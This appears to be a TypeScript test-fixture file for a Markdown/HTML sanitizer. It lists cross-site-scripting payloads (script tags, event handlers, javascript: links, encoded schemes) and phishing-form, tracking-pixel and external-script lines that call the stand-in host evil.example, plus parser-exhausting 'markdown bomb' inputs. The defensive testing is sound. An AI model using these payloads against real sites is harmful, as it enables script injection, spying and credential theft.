/** A host that is not ours. What asks it for anything has told it who reads our pages. */
export const foreignHost = 'evil.example';

/** Sets this name on the window of a page in which it is run. */
export const ranMark = 'ranHostileScript';
const run = `window.${ranMark}=1`;

/** What strangers, and somebody with the key of a writer, put into a text: to run something, to spy, or to break a page. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script in odd case': `<ScRiPt\n>${run}</sCrIpT >`,
  'a script from elsewhere': `<script src="//${foreignHost}/x.js"></script>`,
  'a script that was taken out once': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'an event handler': `<img src=x onerror="${run}">`,
  'event handlers without quotes': `<svg/onload=${run}><body onload=${run}><details open ontoggle=${run}>`,
  'a handler behind a line break': `<b\nonmouseover\n=\n${run}>over</b>`,
  'a frame': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'an object': `<object data="data:text/html,<script>${run}</script>"></object><embed src="//${foreignHost}/x">`,
  'a link to a script': `[x](javascript:${run}) <a href="javascript:${run}">x</a>`,
  'a link in odd case': `[x](JaVaScRiPt:${run}) [x]( \u0001javascript:${run})`,
  'a link in entities': `[x](&#106;&#x61;vascript&colon;${run}) [x](java&Tab;script:${run})`,
  'a link to data': `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](DATA:text/html,x)`,
  'a link out of quotes': `[x](https://${foreignHost}/"onmouseover="${run}) [x](/a '" autofocus onfocus="${run}')`,
  'a reference to a script': `[x][y]\n\n[y]: javascript:${run} "title"`,
  'an automatic link': `<javascript:${run}> <vbscript:x> <https://${foreignHost}/"onclick="${run}>`,
  'a picture that spies': `![x](https://${foreignHost}/pixel.gif) ![x](//${foreignHost}/p.gif) <img src="https://${foreignHost}/p.gif">`,
  'a picture out of quotes': `![x" onerror="${run}](/images/none.jpg) ![x](/a.jpg '" onerror="${run}')`,
  'a picture behind a backslash': `![x](/\\${foreignHost}/p.gif) ![x](\\\\${foreignHost}\\p.gif)`,
  'a style': `<style>@import "//${foreignHost}/x.css";*{display:none}</style><link rel=stylesheet href=//${foreignHost}/x.css>`,
  'a style of an element': `<p style="position:fixed;inset:0;background:url(//${foreignHost}/p.gif)">over all</p>`,
  'a form': `<form action="https://${foreignHost}/"><input name=password><button>Sign In</button></form>`,
  'another base and another place': `<base href="//${foreignHost}/"><meta http-equiv=refresh content="0;url=//${foreignHost}/">`,
  'tags that are not closed': `<div><table><tr><td><b><i><u><article><section id="comments"><ul><li>`,
  'tags that were not opened': `</p></li></ul></article></section></main></body></html> after the end`,
  'half a tag': `<a href="//${foreignHost}/`,
  'a comment and other things that are no tags': `<!-- --!> <img src=x onerror=${run}> --> <![CDATA[ x ]]> <?php echo 1 ?> <!DOCTYPE html>`,
  'what looks like our data': `</script><script>${run}</script>{"__remixContext":1}`,
  'what looks like a template': '{{constructor.constructor("x")()}} ${7*7} <%= 1 %> #{x}',
  'text that runs backwards': 'please pay to \u202E0000 000 007\u202C and \u2066\u202Emore\u2069\u2069 of it',
  'text that nobody sees': 'a\u200Bb\u200Cc\u2060d\uFEFFe\u00ADf\u0000g\u0007h',
  'towers of marks': `Z${'\u0301\u0348\u0489'.repeat(60)}algo`,
  'a word without an end': 'm'.repeat(1_500),
  'signs of several parts': '👩🏽‍🌾 🐄 🇰🇪 👨‍👩‍👧‍👦 ﷽ नमस्ते שלום مرحبا ก็็็็็็็็ 𝕳𝖊𝖑𝖑𝖔',
  'an id of ours': '<p id="main"><a name="comments">x</a><input id="author" name="author">',
};

/** What is beyond all measure: it is refused, or shown as it was typed, and costs next to nothing. */
export const markdownBombs: Readonly<Record<string, string>> = {
  quotes: '> '.repeat(20_000),
  lists: '- '.repeat(10_000),
  'numbered lists': '1. '.repeat(9_000),
  'mixed containers': '> - 1) '.repeat(4_000),
  'opening brackets': '['.repeat(29_000),
  'closing brackets': ']'.repeat(29_000),
  'links in links': '[![a](b)'.repeat(3_700),
  'half links': '[a]('.repeat(7_000),
  emphasis: `a **b${'c* '.repeat(9_000)}`,
  'emphasis of two kinds': '_a__b*c**'.repeat(3_000),
  'code marks': "`'".repeat(14_000),
  'angle brackets': '<'.repeat(29_000),
  'halves of comments': '!<!--:---# '.repeat(2_700),
  tags: '<a <b>---+ '.repeat(2_700),
  'empty lines': 'a\n\n'.repeat(9_000),
  'nested tags': `${'<div>'.repeat(5_000)}x${'</div>'.repeat(700)}`,
};
